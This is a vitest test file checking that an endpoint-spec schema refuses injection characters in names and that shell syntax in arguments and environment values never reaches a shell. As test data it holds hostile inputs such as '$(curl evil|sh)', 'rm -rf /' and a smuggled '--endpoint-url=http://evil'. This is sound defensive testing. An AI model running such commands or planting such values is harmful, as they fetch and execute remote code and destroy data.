// Hostile and broken input (issue 6): what the schema refuses (naming the field), what it
// accepts, and that nothing accepted ever reaches a shell. Pure: schema + render only.
import { describe, expect, test } from 'vitest';
import { render } from '../render/index.js';
import { parseEndpointItem, parseSpec } from './index.js';

/** Refused anywhere inside a name. (`..` and `--` are fine inside names; leading ones are tested apart.) */
const HOSTILE = [';', '$(id)', '`id`', "'", '"', '\n', '\u0000', ' ', '\t', 'ａ', '\\'] as const;

const item = (patch: Record<string, unknown> = {}, spec: Record<string, unknown> = {}) => ({
  endpoint_name: 'llama',
  target_regions: ['r1'],
  ...patch,
  spec: { image: 'vllm/vllm-openai:v0.6.3', ...spec },
});

function rejects(raw: unknown, path: string): string {
  const r = parseEndpointItem(raw);
  expect(r.ok, `expected ${path} to be refused`).toBe(false);
  if (r.ok) return '';
  expect(r.error.issues.map((i) => i.path)).toContain(path);
  return r.error.message;
}

type Container = { name: string; image: string; command?: string[]; args?: string[] };
function containers(raw: unknown): Container[] {
  const r = parseEndpointItem(raw);
  if (!r.ok) throw r.error;
  return render(r.value, 'r1')
    .filter((o) => o.kind === 'Deployment')
    .flatMap((o) => {
      const pod = (
        o.spec as { template: { spec: { containers: Container[]; initContainers?: Container[] } } }
      ).template.spec;
      return [...(pod.initContainers ?? []), ...pod.containers];
    });
}

const SHELLS = /(^|\/)(sh|bash|ash|dash|zsh|ksh)$/;
function expectNoShell(cs: readonly Container[]) {
  for (const c of cs) {
    const argv0 = c.command?.[0];
    if (argv0 !== undefined) expect(argv0, `${c.name} command`).not.toMatch(SHELLS);
    // `-c` as an interpreter flag only matters right after a shell; a user's own argv may hold it.
    if (c.name === 'model-sync') expect(c.command).not.toContain('-c');
  }
}

describe('injection into fields that name things: refused, field named', () => {
  test.each(HOSTILE.map((h) => [h]))('model_source with %j', (h) => {
    expect(rejects(item({}, { model_source: `s3://bucket/models${h}x` }), 'spec.model_source')).toMatch(
      /^spec\.model_source: must be s3:\/\/bucket/,
    );
  });

  test.each([
    ['--endpoint-url=http://evil'],
    ['-s3://bucket'],
    ['s3://bucket/../etc'],
    ['s3://bucket/a b'],
    ['S3://bucket/x'],
    ['s3://ｂucket/x'],
  ])('model_source %j', (v) => {
    rejects(item({}, { model_source: v }), 'spec.model_source');
  });

  test.each(HOSTILE.map((h) => [h]))('endpoint name with %j', (h) => {
    expect(rejects(item({ endpoint_name: `llama${h}` }), 'endpoint_name')).toMatch(/^endpoint_name: /);
  });

  test.each([['--llama'], ['-llama'], ['Llama'], ['ｌlama'], ['l'.repeat(54)], ['']])(
    'endpoint name %j',
    (v) => {
      rejects(item({ endpoint_name: v }), 'endpoint_name');
    },
  );

  test.each(HOSTILE.map((h) => [h]))('namespace with %j', (h) => {
    rejects(item({ namespace: `team${h}` }), 'namespace');
  });

  test.each(HOSTILE.map((h) => [h]))('image with %j', (h) => {
    rejects(item({}, { image: `vllm${h}` }), 'spec.image');
  });

  test.each([['--privileged'], ['-rf'], [' vllm'], ['.vllm'], ['']])('image %j', (v) => {
    rejects(item({}, { image: v }), 'spec.image');
  });

  test.each(HOSTILE.map((h) => [h]))('env name with %j', (h) => {
    expect(rejects(item({}, { env: { [`A${h}`]: 'v' } }), `spec.env.A${h}`)).toMatch(/^spec\.env\./);
  });

  test.each([['\n'], ['\u0000'], ['\r'], ['\u007f']])('args and commands with control character %j', (h) => {
    rejects(item({}, { args: ['--ok', `x${h}`] }), 'spec.args[1]');
    rejects(item({}, { command: [`x${h}`] }), 'spec.command[0]');
  });

  test('env value with NUL', () => {
    rejects(item({}, { env: { A: 'a\u0000b' } }), 'spec.env.A');
  });
});

describe('shell characters where they are plain data: accepted, and never reach a shell', () => {
  const shelly = [
    ';',
    '$(curl evil|sh)',
    '`id`',
    "'",
    '"',
    ' ',
    '--root-path=/x',
    '-c',
    '&&',
    '|',
    '>',
    '..',
  ];

  test('env values and args may hold shell syntax; every container runs an argv, no shell', () => {
    const raw = item(
      {},
      {
        env: Object.fromEntries(shelly.map((s, i) => [`V${i}`, `${s} rm -rf / ${s}`])),
        args: shelly,
        command: ['python3', '-m', 'server', ...shelly],
        model_source: 's3://my-bucket/models/llama-3',
        canary: { image: 'vllm/vllm-openai:v0.7.0' },
      },
    );
    const cs = containers(raw);
    expect(cs.length).toBe(4); // model-sync + inference, primary and canary
    expectNoShell(cs);
    const inference = cs.find((c) => c.name === 'inference');
    expect(inference?.command).toEqual(['python3', '-m', 'server', ...shelly]);
    expect(inference?.args?.slice(0, shelly.length)).toEqual(shelly);
  });

  test.each([['s3://my-bucket'], ['s3://my-bucket/'], ['s3://a.b-c/x/y_z=1+2/']])(
    'the model-sync init container runs exactly the argv for %j',
    (source) => {
      const sync = containers(item({}, { model_source: source })).find((c) => c.name === 'model-sync');
      expect(sync?.command).toEqual(['aws', 's3', 'sync', source, '/models/llama', '--only-show-errors']);
      expect(sync?.args).toBeUndefined();
      expectNoShell(sync ? [sync] : []);
    },
  );
});

describe('values the API server would refuse or rewrite: refused by the schema', () => {
  test.each([
    ['lone surrogate', '\ud800'],
    ['C0 control', 'a\u0001'],
    ['NEL (a YAML line break)', 'a\u0085b'],
    ['BOM', '\ufeff'],
    ['U+FFFF', '\uffff'],
  ])('env value with %s', (_what, v) => {
    rejects(item({}, { env: { A: v } }), 'spec.env.A');
    rejects(item({}, { args: [v] }), 'spec.args[0]');
  });

  test('env values may hold tab, newline, CR, U+2028 and any other unicode', () => {
    const r = parseSpec({ image: 'i', env: { A: 'a\tb\nc\r\n', B: '\u2028 ∑ 🚀 ｖｌｌｍ \u202e' } });
    expect(r.ok).toBe(true);
  });

  test.each([
    ['unknown resource', { requests: { foo: '1' } }, 'spec.resources.requests.foo'],
    ['reserved prefix', { requests: { 'kubernetes.io/x': '1' } }, 'spec.resources.requests.kubernetes.io/x'],
    ['negative', { requests: { cpu: '-1' } }, 'spec.resources.requests.cpu'],
    ['below 1m', { requests: { memory: '1n' } }, 'spec.resources.requests.memory'],
    ['beyond 2^63-1', { limits: { cpu: '1e100', memory: '16Gi' } }, 'spec.resources.limits.cpu'],
    [
      '8Ei (2^63, capped by the server)',
      { limits: { cpu: '4', memory: '8Ei' } },
      'spec.resources.limits.memory',
    ],
    [
      'extended resource without limit',
      { requests: { 'example.com/fpga': '1' } },
      'spec.resources.requests.example.com/fpga',
    ],
    [
      'extended request below its limit',
      { requests: { 'example.com/fpga': '1' }, limits: { 'example.com/fpga': '2' } },
      'spec.resources.requests.example.com/fpga',
    ],
    [
      'fractional extended resource',
      { requests: { 'example.com/fpga': '500m' }, limits: { 'example.com/fpga': '500m' } },
      'spec.resources.limits.example.com/fpga',
    ],
    [
      'hugepages without cpu or memory',
      { requests: {}, limits: { 'hugepages-2Mi': '1Gi' } },
      'spec.resources.limits.hugepages-2Mi',
    ],
    [
      // Found by the property test against the real API server: "1 is not positive integer multiple of hugepages-2Mi".
      'hugepages that are not a whole number of pages',
      { requests: {}, limits: { cpu: '1', 'hugepages-2Mi': '1' } },
      'spec.resources.limits.hugepages-2Mi',
    ],
    [
      'hugepages of 3Mi in 2Mi pages',
      { requests: {}, limits: { cpu: '1', 'hugepages-2Mi': '3Mi' } },
      'spec.resources.limits.hugepages-2Mi',
    ],
  ])('resources: %s', (_what, resources, path) => {
    rejects(item({}, { resources }), path);
  });

  test('resources the server takes: extended resources set equal, 7Ei, 1m, ephemeral-storage', () => {
    const r = parseSpec({
      image: 'i',
      resources: {
        requests: { cpu: '1m', memory: '7Ei', 'ephemeral-storage': '1Gi', 'example.com/fpga': '2' },
        limits: { cpu: '1', memory: '7Ei', 'example.com/fpga': '2' },
      },
    });
    expect(r.ok).toBe(true);
  });

  test.each([['//x'], ['/a/./b'], ['/a/.'], ['/a%2Fb'], ['/a%2fb']])(
    'ingress path %j (refused in an Ingress)',
    (p) => {
      rejects(item({ ingress_path: p }), 'ingress_path');
    },
  );
});

describe('stored items that are not endpoints', () => {
  const valid = item();
  test.each<[string, unknown, string]>([
    ['no endpoint_name', { target_regions: [], spec: { image: 'i' } }, 'endpoint_name'],
    ['no spec', { endpoint_name: 'a' }, 'spec'],
    ['no image', { endpoint_name: 'a', spec: {} }, 'spec.image'],
    ['name is a number', { endpoint_name: 42, spec: { image: 'i' } }, 'endpoint_name'],
    ['spec is a string', { endpoint_name: 'a', spec: 'image: i' }, 'spec'],
    ['spec is a list', { endpoint_name: 'a', spec: [{ image: 'i' }] }, 'spec'],
    ['env is a list', { endpoint_name: 'a', spec: { image: 'i', env: [['A', '1']] } }, 'spec.env'],
    [
      'node_selector is a list',
      { endpoint_name: 'a', spec: { image: 'i', node_selector: ['a'] } },
      'spec.node_selector',
    ],
    ['replicas as a string', { endpoint_name: 'a', spec: { image: 'i', replicas: '3' } }, 'spec.replicas'],
    ['generation as a string', { endpoint_name: 'a', spec: { image: 'i' }, generation: '7' }, 'generation'],
    [
      'target_regions is a string',
      { endpoint_name: 'a', spec: { image: 'i' }, target_regions: 'us-east-1' },
      'target_regions',
    ],
    [
      'desired_state unknown',
      { endpoint_name: 'a', spec: { image: 'i' }, desired_state: 'on' },
      'desired_state',
    ],
  ])('%s: refused with the field named, never thrown', (_what, raw, path) => {
    expect(() => parseEndpointItem(raw)).not.toThrow();
    const msg = rejects(raw, path);
    expect(msg).toMatch(/^[a-z_]+(\.[^:]+)?: /);
  });

  test.each([[null], [undefined], [42], ['endpoint'], [[]], [new Set(['a'])]])(
    '%j is refused, never thrown',
    (raw) => {
      const r = parseEndpointItem(raw);
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.error.message).not.toBe('');
    },
  );

  test('a ~400 KB item is parsed or refused without throwing, in bounded time', () => {
    const huge = { ...valid, spec: { ...valid.spec, env: { BIG: 'x'.repeat(400_000) } } };
    const t0 = performance.now();
    expect(parseEndpointItem(huge).ok).toBe(true);
    const junk = {
      ...valid,
      spec: {
        ...valid.spec,
        env: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`${i}K`, 'v'])),
      },
    };
    const r = parseEndpointItem(junk);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.message).toMatch(/^spec\.env\.0K: /);
    expect(performance.now() - t0).toBeLessThan(5_000);
  });

  test('numbers from Python tooling (DynamoDB Decimals arrive as numbers) parse; numeric strings do not', () => {
    const r = parseEndpointItem({
      ...valid,
      generation: 3,
      spec: { ...valid.spec, replicas: 2, port: 8080, env: { N: 1.5 } },
    });
    expect(r.ok && [r.value.generation, r.value.spec.replicas, r.value.spec.env.N]).toEqual([3, 2, '1.5']);
    rejects({ ...valid, spec: { ...valid.spec, port: '8080' } }, 'spec.port');
  });

  test('one broken item in a batch does not affect a valid one', () => {
    const batch: unknown[] = [
      { endpoint_name: 'broken', spec: 7 },
      valid,
      null,
      { endpoint_name: 'x;y', spec: {} },
    ];
    const results = batch.map(parseEndpointItem);
    expect(results.map((r) => r.ok)).toEqual([false, true, false, false]);
    const first = results[0];
    expect(first && !first.ok && first.name).toBe('broken');
    const ok = results[1];
    expect(ok?.ok && ok.value.name).toBe('llama');
  });
});

describe('namespaces', () => {
  test.each([['kube-system'], ['kube-public'], ['default']])(
    '%s is a valid DNS label, so the schema accepts it: the monitor ALLOWED_NAMESPACES check refuses it',
    (ns) => {
      const r = parseEndpointItem(item({ namespace: ns }));
      expect(r.ok && r.value.namespace).toBe(ns);
    },
  );

  test.each([['Kube-System'], ['a'.repeat(64)], ['../kube-system'], ['kube_system'], ['ｋube-system']])(
    'namespace %j is refused by the schema',
    (ns) => {
      rejects(item({ namespace: ns }), 'namespace');
    },
  );
});

test('hugepages in whole pages are accepted (4Mi of 2Mi pages, 1Gi of 1Gi pages, 0)', () => {
  for (const limits of [
    { cpu: '1', 'hugepages-2Mi': '4Mi' },
    { memory: '1Gi', 'hugepages-1Gi': '1Gi' },
    { cpu: '1', 'hugepages-2Mi': '0' },
  ]) {
    const r = parseSpec({ image: 'i', resources: { requests: {}, limits } });
    expect(r.ok, JSON.stringify(limits)).toBe(true);
  }
});
